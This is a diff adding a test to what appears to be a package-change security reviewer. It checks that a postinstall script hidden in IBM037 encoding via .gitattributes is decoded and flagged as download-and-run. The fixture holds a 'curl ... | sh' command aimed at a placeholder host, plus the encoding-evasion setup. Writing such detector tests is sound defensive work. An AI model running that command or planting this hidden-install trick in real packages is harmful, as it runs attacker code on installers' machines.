@@ -108,3 +108,33 @@ describe("the text around a change", () => {
     expect(review.findings.map((finding) => finding.path)).toEqual(["(commit)"]);
   });
 });
+
+describe("what a checkout makes of a file", () => {
+  it("is read as it will be: gibberish in an odd encoding is a shell script", async () => {
+    // "curl https://x.example.invalid/a | sh" in IBM037, which git turns into text at checkout.
+    const text = "curl https://x.example.invalid/a | sh\n";
+    const ebcdic = Buffer.from([...text].map((char) => IBM037.get(char) ?? 0x6f));
+    const manifest = MANIFEST({ postinstall: "sh setup.sh" });
+    const attributes = "setup.sh working-tree-encoding=IBM037\n";
+    const review = await reviewChange(
+      {},
+      { "package.json": manifest, "setup.sh": ebcdic, ".gitattributes": attributes },
+    );
+    expect(review.verdict).not.toBe("clean");
+    expect(rulesIn(review)).toContain("execution/download-and-run");
+  });
+});
+
+const IBM037 = new Map<string, number>(
+  Object.entries({
+    ..."abcdefghi".split("").reduce((out, char, index) => ({ ...out, [char]: 0x81 + index }), {}),
+    ..."jklmnopqr".split("").reduce((out, char, index) => ({ ...out, [char]: 0x91 + index }), {}),
+    ..."stuvwxyz".split("").reduce((out, char, index) => ({ ...out, [char]: 0xa2 + index }), {}),
+    " ": 0x40,
+    ".": 0x4b,
+    "|": 0x4f,
+    "/": 0x61,
+    ":": 0x7a,
+    "\n": 0x25,
+  }),
+);
